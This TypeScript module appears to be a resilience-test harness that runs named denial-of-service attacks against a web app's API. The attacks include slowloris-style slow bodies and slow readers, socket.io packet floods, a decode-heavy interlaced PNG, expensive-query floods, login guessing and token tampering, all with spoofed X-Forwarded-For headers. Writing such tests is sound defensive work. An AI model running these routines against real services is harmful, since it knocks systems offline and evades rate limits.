import { connect, type Socket } from 'node:net';
import { crc32, deflateSync } from 'node:zlib';
import { WebSocket } from 'undici';

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const framed = Buffer.alloc(8 + body.length);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), 4 + body.length);
  return framed;
};

/** Adam7's passes: the first pixel of each, and the distances between its pixels. */
const passes = [
  [0, 0, 8, 8],
  [4, 0, 8, 8],
  [0, 4, 4, 8],
  [2, 0, 4, 4],
  [0, 2, 2, 4],
  [1, 0, 2, 2],
  [0, 1, 1, 2],
] as const;

/** Returns a black, interlaced PNG: few bytes, and expensive to decode. */
function interlacedPng(side: number): Buffer {
  const bytes = passes.reduce((sum, [x, y, acrossBy, downBy]) => {
    const [across, down] = [Math.ceil((side - x) / acrossBy), Math.ceil((side - y) / downBy)];
    return sum + down * (1 + across * 3);
  }, 0);
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  // Eight bits, color, interlaced.
  head.set([8, 2, 0, 0, 1], 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(bytes), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The attacker, with an address that other people do not share. */
export interface Attacker {
  url: string;
  address: string;
  id: number;
  token: string;
}

/** Attacks until the signal is aborted. */
type Attack = (attacker: Attacker, signal: AbortSignal) => Promise<void>;

const openConnectionCount = 256;

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Makes as many calls as possible with this concurrency, and ignores the responses. */
async function flood(
  { url, address }: Attacker,
  signal: AbortSignal,
  concurrency: number,
  call: (index: number) => { path: string; token?: string; init?: RequestInit },
): Promise<void> {
  let turn = 0;
  const caller = async () => {
    while (!signal.aborted) {
      turn += 1;
      const { path, token, init } = call(turn);
      const headers = {
        'x-forwarded-for': address,
        ...(token && { authorization: token }),
        ...init?.headers,
      };
      await fetch(url + path, { ...init, headers })
        .then((response) => response.arrayBuffer())
        .catch(() => pause(10));
    }
  };
  await Promise.all(Array.from({ length: concurrency }, caller));
}

const json = (method: string, body: object): RequestInit => ({
  method,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
});

/** Keeps this number of connections open, each with the same first bytes, and replaces those that are closed. */
async function keepOpen(
  { url }: Attacker,
  signal: AbortSignal,
  { head, each }: { head: string; each: (socket: Socket) => void },
): Promise<void> {
  const { hostname, port } = new URL(url);
  const open = new Set<Socket>();
  while (!signal.aborted) {
    while (open.size < openConnectionCount) {
      const socket = connect({ host: hostname, port: Number(port) });
      open.add(socket);
      socket.on('error', () => socket.destroy()).on('close', () => open.delete(socket));
      socket.write(head);
      each(socket);
    }
    await pause(100);
  }
  for (const socket of open) socket.destroy();
}

const headOf = (request: string, { address, token }: Attacker, ...more: string[]) =>
  [request, 'Host: wayquest', `X-Forwarded-For: ${address}`, `Authorization: ${token}`, ...more, '', ''].join(
    '\r\n',
  );

/** Opens sockets that are rejected, again and again. */
async function rejectedSockets({ url, address }: Attacker, signal: AbortSignal): Promise<void> {
  const at = `${url.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`;
  while (!signal.aborted) {
    const socket = new WebSocket(at, { headers: { 'x-forwarded-for': address } });
    await new Promise<void>((resolve) => {
      socket.addEventListener('open', () => {
        for (let packet = 0; packet < 2_000; packet += 1) socket.send('40{"token":"no token"}');
      });
      socket.addEventListener('error', () => resolve());
      socket.addEventListener('close', () => resolve());
      signal.addEventListener('abort', () => socket.close(), { once: true });
    });
    await pause(20);
  }
}

/** Long polls, which wait for an event. */
async function idlePolls(attacker: Attacker, signal: AbortSignal): Promise<void> {
  const { url, address } = attacker;
  const headers = { 'x-forwarded-for': address };
  const at = `${url}/socket.io/?EIO=4&transport=polling`;
  const poll = async () => {
    while (!signal.aborted) {
      try {
        const text = await (await fetch(at, { headers, signal })).text();
        const { sid } = JSON.parse(text.slice(1));
        await (await fetch(`${at}&sid=${sid}`, { headers, signal })).text();
      } catch {
        await pause(50);
      }
    }
  };
  await Promise.all(Array.from({ length: openConnectionCount }, poll));
}

const expensivePaths = (id: number) => [
  '/api/users/?search=a',
  '/api/places/towns?bbox=-180,-85,180,85',
  `/api/conversations/${id}`,
  '/api/challenges/?scope=all&limit=500&search=the',
];

const picture = new Uint8Array(interlacedPng(4_000));

/** Attacks by the name of their row. */
export const attacks: Record<string, Attack> = {
  'a socket without an account sends thousands of packets': rejectedSockets,

  '256 slow bodies': (attacker, signal) =>
    keepOpen(attacker, signal, {
      head: headOf(
        'PUT /auth/username HTTP/1.1',
        attacker,
        'Content-Type: application/json',
        'Content-Length: 900000',
      ),
      each(socket) {
        const drop = setInterval(() => socket.write(' '), 1_000);
        socket.once('close', () => clearInterval(drop));
      },
    }),

  '256 slow readers': (attacker, signal) =>
    keepOpen(attacker, signal, {
      head: headOf('GET /api/challenges/?scope=all&limit=500 HTTP/1.1', attacker),
      each: (socket) => socket.pause(),
    }),

  '256 idle polls': idlePolls,

  'pictures of 16 megapixels': ({ token, ...attacker }, signal) =>
    flood({ token, ...attacker }, signal, 8, () => ({
      path: '/auth/me/picture',
      token,
      init: { method: 'PUT', headers: { 'content-type': 'image/png' }, body: picture },
    })),

  'costly reads, one account': (attacker, signal) => {
    const paths = expensivePaths(attacker.id);
    return flood(attacker, signal, 32, (turn) => ({
      path: paths[turn % paths.length] ?? '',
      token: attacker.token,
    }));
  },

  'costly reads, no account': (attacker, signal) => {
    const paths = expensivePaths(attacker.id);
    return flood(attacker, signal, 32, (turn) => ({ path: paths[turn % paths.length] ?? '' }));
  },

  'endless challenges': (attacker, signal) =>
    flood(attacker, signal, 8, (turn) => ({
      path: '/api/challenges/',
      token: attacker.token,
      // Each with a new address to geocode.
      init: json('POST', {
        ...{ name: `Invented ${turn}`, difficulty: 'Hard' },
        ...{ streetAddress: `${turn} Main Street`, city: 'Flushing', state: 'NY' },
      }),
    })),

  'endless joins and claims': (attacker, signal) =>
    flood(attacker, signal, 8, (turn) => ({
      path: turn % 2 ? '/api/challengeLine/' : '/api/points/',
      token: attacker.token,
      init: json(turn % 2 ? 'POST' : 'PUT', { challengeId: 1 + (turn % 40) }),
    })),

  'friend requests to strangers': (attacker, signal) =>
    flood(attacker, signal, 8, (turn) => ({
      path: '/api/friendrequests/',
      token: attacker.token,
      init: json('POST', { friendId: 1 + (turn % 40) }),
    })),

  'wrong logins': (attacker, signal) =>
    flood(attacker, signal, 16, (turn) => ({
      path: '/auth/login',
      init: json('POST', { username: `somebody${turn % 50}`, password: 'not the password' }),
    })),

  'a token in sixteen encodings': (attacker, signal) =>
    flood(attacker, signal, 32, (turn) => ({
      path: '/api/challenges/?scope=all&limit=100',
      token: attacker.token.slice(0, -1) + 'AQgwBRhxCSiyDTjz'.charAt(turn % 16),
    })),
};
